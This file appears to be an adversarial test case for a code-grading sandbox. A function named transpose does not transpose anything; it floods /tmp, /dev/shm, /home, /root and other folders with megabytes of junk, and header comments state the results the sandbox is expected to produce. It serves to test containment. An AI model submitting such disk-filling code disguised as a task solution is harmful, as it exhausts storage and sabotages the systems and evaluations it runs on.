// attack: fills every folder that it may write to
// against: 05_transpose/2_pad
// must: failed launch: nothing was launched
// must: crashed: wrote a file

#include <fcntl.h>
#include <string>
#include <unistd.h>

void transpose(float* out, const float* in, int rows, int cols) {
  static char block[1 << 20] = {1};
  for (const char* folder : {".", "/tmp", "/var/tmp", "/dev/shm", "/home", "/root"})
    for (int i = 0; i < 3; ++i) {
      const int file =
          open((std::string(folder) + "/f" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0600);
      for (int n = 0; n < 60 && write(file, block, sizeof block) > 0; ++n) {
      }
      close(file);
    }
}
